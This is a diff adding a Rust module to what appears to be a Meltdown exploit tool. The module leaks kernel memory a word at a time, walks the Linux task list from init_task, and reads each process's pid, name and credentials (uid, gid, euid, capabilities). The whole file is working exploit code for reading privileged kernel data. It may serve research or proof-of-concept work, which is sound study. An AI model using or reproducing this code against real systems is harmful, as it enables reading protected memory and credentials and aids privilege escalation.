@@ -0,0 +1,165 @@
+//! Listing every process on the machine from leaked kernel memory alone.
+//! The kernel links each `task_struct` into a circular list through its
+//! `tasks` field, starting from `init_task`, so following the list's next
+//! pointers, leaked a word at a time, visits them all. Where the fields sit
+//! comes from the `kernel` module's offset table.
+//!
+//! Each task points at its `struct cred`, which holds the ids and
+//! capabilities it acts with, and can be leaked the same way.
+
+use kernel::{CredOffsets, TaskOffsets};
+use reader::MeltdownReader;
+use suppress::ExceptionSuppressor;
+
+// how many times a word is leaked again when a byte of it doesn't decode, or
+// a pointer doesn't point into the kernel
+const WORD_RETRIES: usize = 4;
+
+// the lowest kernel address on x86_64
+const KERNEL_START: usize = 0xffff_8000_0000_0000;
+
+/// The length of `task_struct.comm`, including its NUL.
+pub const COMM_LEN: usize = 16;
+
+/// Leaks the 8 byte little endian word at `addr`. None if a byte of it
+/// doesn't decode.
+pub fn read_word<S: ExceptionSuppressor>(reader: &MeltdownReader<S>, addr: usize) -> Option<u64> {
+    let bytes = reader.read_range(addr as *const u8, 8);
+    bytes
+        .iter()
+        .rev()
+        .fold(Some(0u64), |word, &byte| Some(word? << 8 | byte? as u64))
+}
+
+/// Leaks the 4 byte little endian word at `addr`. None if a byte of it
+/// doesn't decode.
+pub fn read_u32<S: ExceptionSuppressor>(reader: &MeltdownReader<S>, addr: usize) -> Option<u32> {
+    let bytes = reader.read_range(addr as *const u8, 4);
+    bytes
+        .iter()
+        .rev()
+        .fold(Some(0u32), |word, &byte| Some(word? << 8 | byte? as u32))
+}
+
+/// Leaks the kernel pointer at `addr`, trying again while it doesn't decode
+/// or doesn't point into the kernel.
+pub fn read_pointer<S: ExceptionSuppressor>(
+    reader: &MeltdownReader<S>,
+    addr: usize,
+) -> Option<usize> {
+    (0..WORD_RETRIES)
+        .filter_map(|_| read_word(reader, addr))
+        .map(|word| word as usize)
+        .find(|&pointer| pointer >= KERNEL_START)
+}
+
+/// What was leaked of one process.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Task {
+    /// The address of its `task_struct`.
+    pub addr: usize,
+    pub pid: Option<u32>,
+    pub tgid: Option<u32>,
+    /// The executable name, with bytes that didn't decode as `?`.
+    pub comm: String,
+    /// The address of the credentials it acts with.
+    pub cred: Option<usize>,
+}
+
+impl Task {
+    /// Leaks the `task_struct` at `addr`.
+    pub fn read<S: ExceptionSuppressor>(
+        reader: &MeltdownReader<S>,
+        offsets: &TaskOffsets,
+        addr: usize,
+    ) -> Task {
+        let ids = read_word(reader, addr + offsets.pid);
+        let comm = reader
+            .read_range((addr + offsets.comm) as *const u8, COMM_LEN)
+            .iter()
+            .take_while(|&&byte| byte != Some(0))
+            .map(|&byte| match byte {
+                Some(byte @ b' '...b'~') => byte as char,
+                _ => '?',
+            })
+            .collect();
+        Task {
+            addr,
+            pid: ids.map(|ids| ids as u32),
+            tgid: ids.map(|ids| (ids >> 32) as u32),
+            comm,
+            cred: read_pointer(reader, addr + offsets.cred),
+        }
+    }
+}
+
+/// Walks the task list from `init_task`, leaking each task in turn. Ends
+/// once the list comes back around, or a next pointer can't be leaked.
+pub struct Tasks<'a, S: ExceptionSuppressor + 'a> {
+    reader: &'a MeltdownReader<S>,
+    offsets: TaskOffsets,
+    init_task: usize,
+    // None once the walk is over
+    next: Option<usize>,
+}
+
+impl<'a, S: ExceptionSuppressor> Tasks<'a, S> {
+    /// Starts a walk at `init_task`, the address of the symbol.
+    pub fn new(
+        reader: &'a MeltdownReader<S>,
+        offsets: TaskOffsets,
+        init_task: usize,
+    ) -> Tasks<'a, S> {
+        Tasks {
+            reader,
+            offsets,
+            init_task,
+            next: Some(init_task),
+        }
+    }
+}
+
+impl<'a, S: ExceptionSuppressor> Iterator for Tasks<'a, S> {
+    type Item = Task;
+
+    fn next(&mut self) -> Option<Task> {
+        let addr = self.next?;
+        let task = Task::read(self.reader, &self.offsets, addr);
+        // the list links the tasks fields, not the structures themselves
+        self.next = read_pointer(self.reader, addr + self.offsets.tasks)
+            .map(|link| link.wrapping_sub(self.offsets.tasks))
+            .and_then(|next| if next == self.init_task { None } else { Some(next) });
+        Some(task)
+    }
+}
+
+/// What was leaked of a `struct cred`.
+#[derive(Copy, Clone, Debug, PartialEq, Eq)]
+pub struct Creds {
+    pub uid: Option<u32>,
+    pub gid: Option<u32>,
+    pub euid: Option<u32>,
+    pub egid: Option<u32>,
+    pub cap_inheritable: Option<u64>,
+    pub cap_permitted: Option<u64>,
+    pub cap_effective: Option<u64>,
+}
+
+impl Creds {
+    /// Leaks the `struct cred` at `addr`.
+    pub fn read<S: ExceptionSuppressor>(
+        reader: &MeltdownReader<S>,
+        offsets: &CredOffsets,
+        addr: usize,
+    ) -> Creds {
+        Creds {
+            uid: read_u32(reader, addr + offsets.uid),
+            gid: read_u32(reader, addr + offsets.gid),
+            euid: read_u32(reader, addr + offsets.euid),
+            egid: read_u32(reader, addr + offsets.egid),
+            cap_inheritable: read_word(reader, addr + offsets.cap_inheritable),
+            cap_permitted: read_word(reader, addr + offsets.cap_permitted),
+            cap_effective: read_word(reader, addr + offsets.cap_effective),
+        }
+    }
+}